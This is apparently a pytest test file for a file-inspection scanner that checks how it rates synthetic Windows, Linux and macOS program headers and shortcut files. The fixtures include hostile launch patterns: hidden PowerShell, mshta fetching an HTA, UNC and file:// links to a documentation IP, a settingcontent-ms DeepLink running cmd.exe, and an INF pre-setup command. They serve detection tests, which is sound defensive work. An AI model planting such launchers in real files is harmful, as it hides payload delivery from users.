"""What a reader is told of programs, shortcuts and documents. None of these could run."""

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchmarks.corpus.files import elf, pe, shortcut
from core.findings import FileState, Level
from core.scanning.inspection import Inspection
from core.text import text
from tests.core.scanning.examining import levels, look_at


def facts(inspection: Inspection) -> set[str]:
    return {fact.value for found in inspection.findings.values() for fact in found.evidence}


def signed_pe(*, directories: dict[int, int], section: bytes = b".text", behind: int = 0) -> bytes:
    """Headers of a 64-bit program with these entries in its table of directories."""
    head = b"MZ" + bytes(58) + struct.pack("<I", 0x80)
    optional = bytearray(b"\x0b\x02" + bytes(238))
    struct.pack_into("<I", optional, 108, 16)
    for index, place in directories.items():
        struct.pack_into("<II", optional, 112 + 8 * index, place, 8)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0xAA64, 1, 0, 0, 0, 240, 0x22)
    table = struct.pack("<8sIIII", section, 0, 0, 0x200, 0x400) + bytes(16)
    return (head.ljust(0x80, b"\0") + coff + bytes(optional) + table).ljust(0x600 + behind, b"\0")


def test_a_windows_program_is_said_with_processor_and_signature() -> None:
    found = look_at("setup.exe", signed_pe(directories={4: 0x600}))
    assert {"ARM64", text("program.signed")} <= facts(found)
    assert levels(found)["code-program"] is Level.HIGH
    assert found.state is FileState.PARTLY_CHECKED
    assert text("program.unsigned") in facts(look_at("setup.exe", signed_pe(directories={})))


@pytest.mark.parametrize(
    ("content", "fact"),
    [
        (signed_pe(directories={14: 0x600}), "dot_net"),
        (signed_pe(directories={}, section=b"UPX0"), "packed"),
        (signed_pe(directories={}, behind=200_000), "more_behind"),
        (pe(True), "library"),
    ],
)
def test_what_the_headers_give_away_is_told(content: bytes, fact: str) -> None:
    assert text(f"program.{fact}") in facts(look_at("a.exe", content))


def test_programs_of_other_systems_are_said_with_their_processor() -> None:
    assert "x64" in facts(look_at("tool", elf()))
    mac = b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIIII", 0x0100000C, 0, 2, 1, 16, 0, 0) + struct.pack("<II", 0x1D, 16)
    assert {"ARM64", text("program.signed")} <= facts(look_at("tool", mac + bytes(99)))


@given(
    st.binary(max_size=300),
    st.sampled_from([b"MZ", b"\x7fELF", b"\xcf\xfa\xed\xfe", b"L\0\0\0\x01\x14\x02\0", b"%PDF-", b""]),
)
def test_no_headers_are_too_strange(rest: bytes, start: bytes) -> None:
    inspection = look_at("a.exe", start + rest)
    assert inspection.reason is None or inspection.reason.id != "scan.scanner_failed"


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("README.lnk", shortcut("powershell -w hidden -c echo")),
        ("model.lnk", shortcut("mshta https://files.invalid/a.hta")),
        ("docs.url", b"[InternetShortcut]\r\nURL=file://203.0.113.7/share/a.exe\r\n"),
        ("docs.url", b"[InternetShortcut]\r\nURL=https://a.example\r\nIconFile=\\\\203.0.113.7\\share\\a.ico\r\n"),
        ("a.settingcontent-ms", b"<PCSettings><DeepLink>cmd.exe /c calc</DeepLink></PCSettings>"),
        ("setup.inf", b"[DefaultInstall]\r\nRunPreSetupCommands=powershell -c x\r\n"),
    ],
)
def test_what_starts_a_program_or_reaches_elsewhere_is_dangerous(path: str, content: bytes) -> None:
    assert levels(look_at(path, content))["code-shortcut-starts"] is Level.HIGH


def test_the_command_behind_a_shortcut_is_shown_and_judged() -> None:
    found = look_at("README.lnk", shortcut("powershell -w hidden -c echo"))
    assert levels(found)["code-hidden-command"] is Level.HIGH
    assert any("powershell -w hidden" in fact for fact in facts(found))


def test_a_link_to_a_page_asks_for_care_and_no_more() -> None:
    found = levels(look_at("docs.url", b"[InternetShortcut]\r\nURL=https://docs.example/page\r\n"))
    assert set(found.values()) == {Level.CAREFUL}


def test_what_holds_programs_but_is_none_asks_for_care() -> None:
    assert levels(look_at("disk.iso", bytes(0x8001) + b"CD001" + bytes(99)))["code-program"] is Level.CAREFUL


def test_a_help_file_runs_what_it_holds() -> None:
    assert levels(look_at("help.chm", b"ITSF" + bytes(99)))["code-program"] is Level.HIGH


def test_a_broken_shortcut_is_not_called_read() -> None:
    assert look_at("a.lnk", shortcut("x")[:50]).state is not FileState.CHECKED
